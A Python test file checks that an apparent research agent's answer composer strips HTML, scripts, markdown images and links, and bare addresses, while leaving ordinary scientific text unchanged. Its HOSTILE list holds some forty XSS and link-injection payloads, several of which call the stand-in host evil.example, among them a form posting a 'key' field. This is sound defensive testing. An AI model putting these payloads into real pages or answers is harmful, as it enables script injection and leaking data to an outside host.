"""No answer does anything in a renderer of markdown, with HTML and links of bare addresses on."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from typing import Any

import pytest
from markdown_it import MarkdownIt

from askem_agent.composing import compose
from askem_agent.inert import addresses, inert

HOSTILE = [
    "<img src=//evil.example>",
    "<script src=//e.x></script>",
    "<script>alert(1)</script>",
    "<ScRiPt\n>alert(1)</ScRiPt >",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>a</a>",
    "<p onclick=alert(1)>a</p>",
    "<!-- a --><b>x</b>",
    "<style>@import '//evil.example/x';</style>",
    "<form action=//evil.example><input name=key></form>",
    "<object data=//evil.example/x></object>",
    "<base href=//evil.example>",
    "<div style='background:url(//evil.example/x)'>a</div>",
    "<?php a ?>",
    "<![CDATA[ <img src=x> ]]>",
    "<https://evil.example/>",
    "<evil@evil.example>",
    "<5@evil.example>",
    "<javascript:alert(1)>",
    "![a](<http://evil.example/ (>)",
    "![\n](http://evil.example/x)",
    "[a](\nhttp://evil.example/x)",
    "[a [b]](http://evil.example/x)",
    "[a](http://evil.example/ 'title')",
    "![a][b]\n\n[b]: http://evil.example/x",
    "[b]\n\n[b]: <http://evil.example/x>",
    "[1]: http://evil.example/x",
    "[a][1](http://evil.example/x)",
    "[![a](http://evil.example/a)](http://evil.example/b)",
    "https://evil.example/login",
    "http://127.0.0.1/login",
    "//evil.example/x",
    "www.evil.example",
    "evil.com or evil.io/login",
    "\u0438.\u0440\u0444",
    "mail evil@evil.example or mailto:evil@host",
    "https&#58;//evil.example &lt;img src=x&gt;",
    "`a` \\<img src=x onerror=alert(1)\\>",
    "a <\nimg src=x onerror=alert(1)>",
    "[[evil]] ![[evil.png]]",
]
_HARMLESS = {"p", "blockquote", "ul", "ol", "li", "em", "strong", "code", "hr", "br", "pre"}


# What renderers that look for bare addresses go by, such as those of GitHub and of linkify-it.
_LINKED = re.compile(
    r"://|//[\w\[]|www\.\w|\w@[\w-]+\.\w|mailto:|\w\.(?:com|io|\u0440\u0444)\b", re.IGNORECASE
)


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.update({tag, *(name for name, _ in attrs)})


def tags(markdown: str) -> set[str]:
    """Tags and attributes of what is rendered."""
    parser = _Tags()
    parser.feed(MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown))
    return parser.found


@pytest.mark.parametrize("hostile", HOSTILE)
@pytest.mark.parametrize("around", ["{}", "- {}", "It is stable {} in rabbits"])
def test_nothing_hostile_is_rendered(notebook_of: Any, hostile: str, around: str) -> None:
    text = around.format(hostile)
    for written in (f"{text} [1].", f"{text} [1]", f"{text} [9]."):
        composed = compose(written, notebook_of([text]), unsupported="mark")
        assert tags(composed.text) <= _HARMLESS, composed.text
        assert not addresses(composed.text)
        assert not _LINKED.search(composed.text), composed.text
    assert tags(inert(text)) <= _HARMLESS


def test_the_inputs_are_hostile() -> None:
    """Nearly all of them do something in one renderer or another as they are."""
    linked = [text for text in HOSTILE if tags(text) - _HARMLESS or _LINKED.search(text)]
    assert len(linked) >= 30


@pytest.mark.parametrize(
    "text",
    [
        "It fell by 12 % (p <0.05, n = 40), and p < .01 in the others.",
        "Of [18F]FDG 5 mg/kg were given [see below]; e.g. the ratio was 1:2.",
        "The DOI is 10.1000/182. IL-6 and TNF-a rose, i.e. doubled: see Fig. 2.",
        "a <= b, and x<5%",
        "Run main.py, then foo.service on localhost:4502 as /var/x says; urn:askem:x // so.",
        "recall@10 was 0.9 for E.coli et al. by key:value",
    ],
)
def test_what_papers_write_stays(text: str) -> None:
    assert inert(text) == text
